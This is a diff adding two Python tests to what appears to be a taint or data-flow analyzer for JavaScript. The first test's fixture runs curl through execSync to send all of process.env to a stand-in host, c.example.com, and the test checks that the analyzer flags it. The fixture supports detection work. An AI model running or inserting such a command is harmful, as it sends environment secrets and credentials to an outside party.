@@ -299,3 +299,17 @@ def test_destructured_request_is_a_sink() -> None:
     flows = flows_of(code)
     assert flows.sinks >= 2
     assert flows.flows
+
+
+def test_curl_command_is_a_sink() -> None:
+    code = (
+        "const { execSync } = require('child_process');\n"
+        "execSync('curl -s -d ' + JSON.stringify(process.env) + ' https://c.example.com/x');"
+    )
+    (flow,) = flows_of(code).flows
+    assert flow.sink.destination == "c.example.com"
+
+
+def test_command_without_network_tool_is_not_a_sink() -> None:
+    code = "const { execSync } = require('child_process');\nexecSync('echo ' + JSON.stringify(process.env));"
+    assert not flows_of(code).flows
